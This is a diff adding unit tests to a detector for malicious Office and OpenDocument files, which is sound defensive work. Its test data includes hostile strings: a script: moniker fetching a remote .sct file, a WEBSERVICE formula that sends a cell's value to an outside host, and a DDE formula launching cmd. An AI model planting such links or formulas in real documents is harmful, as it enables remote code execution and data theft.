@@ -24,8 +24,8 @@ def look(xml: str | bytes, name: str = "word/document.xml") -> list[Finding | Ga
     return [*OfficeXmlAnalyzer().analyze(artifact, Context())]
 
 
-def levels(xml: str | bytes) -> dict[str, Level]:
-    return {seen.code: seen.level for seen in look(xml) if isinstance(seen, Finding)}
+def levels(xml: str | bytes, name: str = "word/document.xml") -> dict[str, Level]:
+    return {seen.code: seen.level for seen in look(xml, name) if isinstance(seen, Finding)}
 
 
 def linked(kind: str, target: str) -> str:
@@ -50,6 +50,7 @@ class TestRelationships:
             ("http://192.0.2.1/a.dotm", Level.MALICIOUS),
             ("&#104;ttps://192.0.2.1/a.dotm", Level.MALICIOUS),
             ("mhtml:http://192.0.2.1/a!x", Level.MALICIOUS),
+            ("script:http://192.0.2.1/a.sct", Level.MALICIOUS),
             ("\\\\192.0.2.1@80\\dav\\a.dotm", Level.MALICIOUS),
             ("file://192.0.2.1/a/a.dotm", Level.MALICIOUS),
             ("\\\\files.chu.example\\modeles\\a.dotx", Level.SUSPICIOUS),
@@ -89,6 +90,19 @@ class TestRelationships:
     )
     def test_what_honest_documents_link_to_is_a_note(self, kind: str, target: str) -> None:
         assert set(levels(linked(kind, target)).values()) == {Level.NOTE}
+
+    def test_a_chapter_on_a_share_elsewhere_is_suspicious(self) -> None:
+        target = r"\\192.0.2.1\a\b.docx"
+
+        assert levels(linked("subDocument", target)) == {"office.remote-object": Level.SUSPICIOUS}
+
+    def test_the_workbook_of_a_chart_is_asked_and_never_run(self) -> None:
+        relationships = linked("oleObject", "https://d.docs.live.example/1/Tableau.xlsx")
+        of_chart = levels(relationships, "ppt/charts/_rels/chart1.xml.rels")
+        of_slide = levels(relationships, "ppt/slides/_rels/slide1.xml.rels")
+
+        assert of_chart == {"office.linked": Level.NOTE}
+        assert of_slide == {"office.remote-object": Level.SUSPICIOUS}
 
     def test_a_picture_on_a_share_elsewhere_is_suspicious(self) -> None:
         data = linked("image", "\\\\192.0.2.1\\a\\b.png")
@@ -168,6 +182,7 @@ class TestFields:
         "code",
         [
             "PAGE \\* MERGEFORMAT",
+            "DDE \\* MERGEFORMAT",
             'HYPERLINK "https://chu.example"',
             'INCLUDEPICTURE "C:\\\\images\\\\logo.png" \\d',
             'TOC \\o "1-3"',
@@ -199,6 +214,29 @@ class TestSheets:
     )
     def test_a_cell_that_starts_a_program(self, cell: str) -> None:
         assert levels(cell) == {"office.dde": Level.MALICIOUS}
+
+    @pytest.mark.parametrize(
+        ("formula", "expected"),
+        [
+            (
+                'WEBSERVICE("http://a.example/?"&amp;A1)',
+                {"office.remote-object": Level.SUSPICIOUS},
+            ),
+            ('WEBSERVICE("http://a.example/rates")', {"office.linked": Level.NOTE}),
+            ('SUM(A1:A9)&amp;" WEBSERVICE"', {}),
+        ],
+    )
+    def test_a_cell_that_fetches(self, formula: str, expected: dict[str, Level]) -> None:
+        assert levels(f"<worksheet><f>{formula}</f></worksheet>") == expected
+
+    @pytest.mark.parametrize(
+        ("service", "level"), [("cmd", Level.MALICIOUS), ("soffice", Level.NOTE)]
+    )
+    def test_the_function_by_which_libreoffice_asks(self, service: str, level: Level) -> None:
+        formula = f"of:=DDE(&quot;{service}&quot;;&quot;/c calc&quot;;&quot;x&quot;)"
+        cell = f'<t:table-cell xmlns:t="x" t:formula="{formula}"/>'
+
+        assert levels(cell) == {"office.dde": level}
 
     def test_an_everyday_formula_is_nothing(self) -> None:
         assert levels("<worksheet><c><f>IF(A1=\"a|'b'!\",1,-2)</f></c></worksheet>") == {}
@@ -277,6 +315,12 @@ class TestOpenDocument:
 
         assert levels(tag.format("floating-frame")) == {"office.remote-object": Level.SUSPICIOUS}
         assert levels(tag.format("image")) == {"office.remote-picture": Level.NOTE}
+
+    @pytest.mark.parametrize("element", ["section-source", "table-source", "background-image"])
+    def test_what_else_is_taken_from_a_share(self, element: str) -> None:
+        xml = f'<o:{element} xmlns:o="{OPEN_DOCUMENT}" {XLINK} x:href="\\\\192.0.2.1\\a\\b.odt"/>'
+
+        assert levels(xml) == {"office.remote-object": Level.SUSPICIOUS}
 
     def test_the_same_elements_elsewhere_are_nothing(self) -> None:
         assert levels(f'<object {XLINK} x:href="http://192.0.2.1/a"/>') == {}
